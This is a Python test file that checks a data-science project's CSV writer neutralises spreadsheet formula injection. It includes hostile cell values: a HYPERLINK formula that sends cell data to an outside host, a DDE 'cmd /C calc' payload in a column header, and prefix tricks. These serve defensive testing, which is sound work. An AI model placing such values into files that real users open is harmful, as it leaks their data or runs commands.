"""What a project writes for people to open in a spreadsheet: text is text there, and the same when it is read back."""

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from crispdm.gate.evidence import Evidence
from crispdm.spreadsheets import from_cell
from tests.support.templates import bundled_files
from tests.support.work import AUDIT, DRAW, ERRORS, INVENTORY, PREPARE, REVIEW, TRAIN, Here, listings

pytestmark = pytest.mark.slow  # each test starts scripts that load data libraries

NUMBER = re.compile(r"[-+](\d+\.?\d*|\.\d+)(e[-+]?\d+)?", re.IGNORECASE)
HOSTILE = [
    '=HYPERLINK("http://x.org/"&A1,"open")',
    "+1-1",
    "-1-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "x;=1",
    "x\n=1",
    " =1",
    "\uff1d1",
]


def _files() -> ModuleType:
    """The module of a project that reads and writes files."""
    module = ModuleType("files")
    text = bundled_files("crisp-dm")["my_project/files.py"][0].decode()
    exec(text.replace("from .paths import shown", "shown = str"), module.__dict__)  # noqa: S102 - our own
    return module


FILES = _files()


def _formulas(sheet: str) -> Iterator[str]:
    """The cells that a spreadsheet runs, whichever separator it believes in."""
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(sheet, newline=""), delimiter=separator):
            for cell in row:
                text = cell.strip()
                if re.match(r"[-+=@\uff0b\uff0d\uff1d\uff20]\s*\S", text) and not NUMBER.fullmatch(text):
                    yield cell


def _written(place: Path, *cells: str) -> str:
    FILES.write_rows(place, ["a", *cells], [{"a": "1", **dict(zip(cells, cells, strict=True))}])
    return place.read_bytes().decode()


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_is_no_formula_in_a_cell_or_a_header(tmp_path: Path, text: str) -> None:
    assert [*_formulas(f'a,b\n1,"{text.replace(chr(34), 2 * chr(34))}"\n')], "so that this is about something"
    assert not [*_formulas(_written(tmp_path / "a.csv", text))]
    (row,) = FILES.read_rows(tmp_path / "a.csv", ["a", text.strip()])
    assert row == {"a": "1", text.strip(): text.strip()}
    ((_, row),) = Evidence(tmp_path, "").rows("/a.csv", ("a",))
    assert row == {"a": "1", text.strip(): text.strip()}, "crispdm reads it as the scripts do"


@pytest.mark.parametrize("number", ["-5", "+5", "-0.5", "-.5", "-5e-07", "0", "12.30"])
def test_a_number_stays_one(tmp_path: Path, number: str) -> None:
    assert f"\n1,{number}\n" in _written(tmp_path / "a.csv", number)
    assert FILES.as_cell(-0.5) == -0.5


@given(st.text(st.sampled_from("=+-@'\t\r\n; 15ae.\uff1d")))
@example("' =1")
@example(" '=1")
def test_what_is_written_is_read_back(text: str) -> None:
    cell = FILES.as_cell(text)
    assert FILES.from_cell(cell) == text.strip() == from_cell(cell)
    assert not [*_formulas(cell)]


def test_the_sheets_of_a_project_hold_none_and_keep_what_people_checked(tmp_path: Path) -> None:
    work, rows = Here(tmp_path), listings(200)
    for number, row in enumerate(rows):
        row["listing id"] = f"={number}+1"
        row["title"] = f"{HOSTILE[number % len(HOSTILE)]} {row['title']}".replace("\r", "")
        row["category"] = f"@{row['category']}"
        row["=cmd|' /C calc'!A0"] = "-1-1"
    work.table("data/raw.csv", rows)
    work.fill_in(rows[0], "category", "listing id", "{by: created, test_from: 2026-10-15}")
    work.measure_by("accuracy", "higher", 0.3)
    work.run(DRAW)
    assert not [*_formulas((work.root / AUDIT).read_bytes().decode())]
    drawn = work.rows(AUDIT)
    work.table(AUDIT, [{**row, "checked": from_cell(row["label"]), "by": "Cy"} for row in drawn])  # typed without a '
    read = [row for _, row in Evidence(work.root, "").rows(f"/{AUDIT}", ("id", "label", "checked"))]
    assert {(row["label"] == row["checked"], row["label"][:1]) for row in read} == {(True, "@")}
    assert "0 of 60 checked labels wrong" in work.run(DRAW)
    assert not [*_formulas((work.root / AUDIT).read_bytes().decode())], "what was checked is written anew"
    other = next(row["category"] for row in rows if row["category"] != rows[0]["category"])
    work.write(AUDIT, f"id,label,checked,by\n'=0+1,{rows[0]['category']},'{other},Cy\n")
    assert "1 row relabelled" in work.run(PREPARE)
    assert work.rows("data/table.csv")[0]["listing id"] == "=0+1", "a table is for programs"
    work.run(TRAIN)
    work.run(REVIEW)
    assert not [*_formulas((work.root / ERRORS).read_bytes().decode())]


def test_what_people_write_into_an_audit_stays_before_they_decide(tmp_path: Path) -> None:
    work, rows = Here(tmp_path), listings(200)
    work.table("data/raw.csv", rows)
    work.fill_in(rows[0], "category", "listing id", "{by: created, test_from: 2026-10-15}")
    work.run(DRAW, "--rows", "4")
    asked, named, *_ = drawn = work.rows(AUDIT)
    by = {named["id"]: "Cy"}
    remarks = {asked["id"]: "ask Bo"}
    work.table(AUDIT, [{**row, "by": by.get(row["id"], ""), "remark": remarks.get(row["id"], "")} for row in drawn])
    fields = work.read(INVENTORY)
    left_out = next(field for field in fields["fields"] if field["role"] == "feature" and field["name"] in asked)
    left_out["gap"] = "drop"
    work.write(INVENTORY, json.dumps(fields))
    assert "3 rows, 3 to check" in work.run(DRAW, "--rows", "3")
    found = work.rows(AUDIT)
    assert [(row["id"], row["by"], row["remark"]) for row in found[:2]] == [
        (asked["id"], "", "ask Bo"),
        (named["id"], "Cy", ""),
    ], "and a feature that is left out is none of the team's columns"
    assert len(found) == 3
